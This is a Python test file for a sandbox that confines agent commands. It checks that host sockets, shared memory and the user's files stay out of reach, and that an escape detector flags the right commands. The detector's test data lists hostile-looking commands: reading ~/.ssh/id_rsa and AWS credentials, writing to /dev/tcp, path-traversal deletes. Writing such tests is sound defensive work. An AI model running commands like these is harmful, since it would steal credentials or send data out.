"""Holes that were once open, each tried alone: what gets out here gets out of every race."""

from __future__ import annotations

import os
import socket
from pathlib import Path
from typing import TYPE_CHECKING

import anyio
import pytest

from miyabi_tui.engine.agents.tools import Edit, Toolbox, Write
from miyabi_tui.engine.escapes import escapes_in
from miyabi_tui.engine.events import Channel, Escape, Resource
from miyabi_tui.engine.lookout import refusals_in
from miyabi_tui.engine.sandbox import local as sandbox_local
from miyabi_tui.engine.sandbox import process
from miyabi_tui.engine.sandbox.base import Mount, Space
from miyabi_tui.engine.sandbox.process import ProcessSandbox
from miyabi_tui.engine.sandbox.seen import tool_folders
from miyabi_tui.engine.scratch import remove_folder
from miyabi_tui.engine.terms import Sandboxing
from tests.places import bare
from tests.processes import Pids, until_gone

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from miyabi_tui.engine.sandbox.base import ExecResult

pytestmark = pytest.mark.anyio
SHARED = Path("/dev/shm")


# --- isolation by process -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def kernel() -> process.Kernel:
    found = process.probe()
    if not SHARED.is_dir():
        pytest.skip(f"no {SHARED} here")
    if not (found.landlock and found.mounts):
        pytest.skip(f"no Landlock or no mounts of one's own here: {found}")
    return found


@pytest.fixture
async def kept(kernel: process.Kernel, tmp_path: Path) -> AsyncIterator[ProcessSandbox]:
    """A sandbox as a world has it, but without a control group."""
    worktree = tmp_path / "w"
    worktree.mkdir()
    space = Space(
        name="Alpha",
        worktree=worktree,
        env={"PATH": os.environ["PATH"], "TMPDIR": str(worktree)},
        limits=Sandboxing(memory_gb=0.25),
        mounts=(Mount(worktree, writable=True),),
        tools=tool_folders(os.environ),
    )
    made = ProcessSandbox(space, None, kernel)
    yield made
    await made.stop()


async def run(sandbox: ProcessSandbox, folder: Path, script: str) -> ExecResult:
    return await sandbox.exec(("bash", "-c", script), cwd=folder, time_limit=60)


CONNECT = "import socket, sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1]); print('reached')"


async def test_sockets_of_services_are_out_of_reach(kept: ProcessSandbox, tmp_path: Path) -> None:
    """Landlock lets everybody connect who knows the name; its own sockets a world must have."""
    with socket.socket(socket.AF_UNIX) as service:
        service.bind(str(tmp_path / "docker.sock"))
        service.listen()
        reach = f'python3 -c "{CONNECT}"'
        done = await run(kept, tmp_path / "w", f"{reach} {tmp_path}/docker.sock")
        assert "reached" not in done.output and "Error" in done.output
    serve = (
        "import socket; s = socket.socket(socket.AF_UNIX); s.bind('own'); s.listen(); s.accept()"
    )
    own = f'python3 -c "{serve}" & until [ -S own ]; do sleep 0.01; done; {reach} $PWD/own'
    assert (await run(kept, tmp_path / "w", own)).output == "reached\n"


async def test_shared_memory_is_each_command_s_own(kept: ProcessSandbox, tmp_path: Path) -> None:
    name = f"hostile-{os.getpid()}"
    (SHARED / name).write_text("another world's")
    try:
        script = f"cat {SHARED}/{name}; echo mine > {SHARED}/{name}; cat {SHARED}/*"
        done = await run(kept, tmp_path / "w", script)
        assert done.output.splitlines()[-1] == "mine" and "No such file" in done.output
        assert (SHARED / name).read_text() == "another world's"
        fill = f"head -c 1000000000 /dev/zero > {SHARED}/x"
        assert "No space left" in (await run(kept, tmp_path / "w", fill)).output
    finally:
        (SHARED / name).unlink()


async def test_a_folder_in_shared_memory_is_still_a_world_s_own(
    kernel: process.Kernel, tmp_path: Path
) -> None:
    own, other = (SHARED / f"hostile-{os.getpid()}-{one}" for one in ("own", "other"))
    own.mkdir()
    other.mkdir()
    try:
        space = Space(
            name="Alpha",
            worktree=tmp_path,
            env={"PATH": os.environ["PATH"]},
            mounts=(Mount(own, writable=True),),
            tools=tool_folders(os.environ),
        )
        sandbox = ProcessSandbox(space, None, kernel)
        done = await run(sandbox, own, f"echo x > here; ls {SHARED}; touch {other}/x")
        assert done.output.splitlines()[0] == own.name and "No such file" in done.output
        assert [one.name for one in own.iterdir()] == ["here"]
        assert not any(other.iterdir())
    finally:
        remove_folder(own)
        remove_folder(other)


@pytest.mark.parametrize("leave", ["setsid", "env -i setsid", "env -i setsid setsid --fork setsid"])
async def test_who_leaves_session_and_environment_ends_with_the_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, leave: str
) -> None:
    """Also where the command does not listen and is ended by force, with all who hold the tree."""
    monkeypatch.setattr(sandbox_local, "GRACE_SECONDS", 0.1)
    sandbox, pids = bare({"PATH": os.environ["PATH"]}), Pids()
    hidden = f"{leave} bash -c 'trap \"\" TERM; echo $$; exec sleep 600'"
    async with anyio.create_task_group() as group:

        async def stubborn() -> None:
            script = f"trap '' TERM; {hidden} & wait; sleep 600"
            await sandbox.exec(("bash", "-c", script), cwd=tmp_path, time_limit=60, on_output=pids)

        group.start_soon(stubborn)
        [pid] = await pids.first()
        group.cancel_scope.cancel()
    await until_gone(pid)
    await sandbox.stop()


# --- files ----------------------------------------------------------------------------------------


async def test_tools_part_from_the_other_names_of_a_file(tmp_path: Path) -> None:
    outside, root = tmp_path / "outside", tmp_path / "w"
    root.mkdir()
    outside.write_text("the user's\n")
    outside.chmod(0o750)
    toolbox = Toolbox(root, bare({}))
    for call in (Write("hard", "evil"), Edit("hard", "user", "evil")):
        (root / "hard").unlink(missing_ok=True)
        os.link(outside, root / "hard")
        assert not (await toolbox.run(call, _silent)).is_error
        assert "evil" in (root / "hard").read_text()
        assert (root / "hard").stat().st_mode & 0o777 == 0o750
        assert outside.read_text() == "the user's\n"
    assert [one.name for one in root.iterdir()] == ["hard"]


def _silent(channel: Channel, text: str) -> None:
    """Nobody listens."""


# --- what is told ---------------------------------------------------------------------------------


def test_a_repository_in_a_free_place_is_the_user_s_all_the_same(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("HOME", "/data/people/hana")
    worktree = Path("/tmp/hana/project/.miyabi/worktrees/world-Alpha/issue-7/task")
    for command, kind in (
        ("echo x > /tmp/hana/project/calc.py", Escape.WRITE),
        ("rm ../../../../../../letter.txt", Escape.WRITE),
        ("git --git-dir=/tmp/hana/project/.git --bare update-ref refs/heads/x HEAD", Escape.GIT),
        ("echo x > /dev/tcp/192.0.2.1/80", Escape.NETWORK),
        ("cat /data/people/hana/.ssh/id_rsa", Escape.READ),
        ("python3 -c \"open('/data/people/hana/.aws/credentials')\"", Escape.READ),
    ):
        assert [one for one, _ in escapes_in(command, worktree)] == [kind], command
    for command in ("cp a /tmp/b; rm /tmp/b", "echo x > /dev/tcp/127.0.0.1/80; touch a"):
        assert escapes_in(command, worktree) == []
    denied = "bash: line 1: /tmp/hana/letter.txt: Permission denied\ncat: /tmp/x: Permission denied"
    assert refusals_in(denied, worktree) == [(Escape.WRITE, "/tmp/hana/letter.txt")]


@pytest.mark.parametrize(
    ("line", "resource"),
    [
        ("[something here was ended: over the memory limit of 2 GB]", Resource.MEMORY),
        ("bash: line 1: 12 File size limit exceeded head > big", Resource.DISK),
        ("[exit code 153]", Resource.DISK),
    ],
)
def test_a_limit_that_the_kernel_holds_is_told(line: str, resource: Resource) -> None:
    assert refusals_in(line, Path("/w")) == [(resource, line)]
